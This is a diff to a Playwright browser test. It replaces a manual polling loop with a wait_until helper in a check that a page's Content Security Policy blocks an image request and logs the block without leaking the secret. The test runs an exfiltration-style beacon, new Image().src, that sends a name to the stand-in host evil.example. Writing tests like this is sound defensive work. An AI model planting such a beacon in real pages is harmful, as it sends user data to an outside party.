@@ -3,11 +3,11 @@
 from __future__ import annotations
 
 import logging
-import time
 
 import pytest
 from playwright.sync_api import BrowserContext
-from tests.browser.conftest import PATIENCE, Site
+from tests.browser.conftest import Site
+from tests.fakes.waiting import wait_until
 
 pytestmark = pytest.mark.browser
 
@@ -22,8 +22,5 @@ def test_what_a_page_may_not_fetch_stands_in_the_log(
     page.evaluate("new Image().src = 'https://evil.example/secret.png?who=mina'")
 
     line = "csp img-src stopped=https://evil.example page=/terms"
-    until = time.monotonic() + PATIENCE / 1000
-    while line not in caplog.text and time.monotonic() < until:
-        page.wait_for_timeout(100)
-    assert line in caplog.text
+    wait_until(lambda: line in caplog.text, "the line in the log")
     assert "secret" not in caplog.text
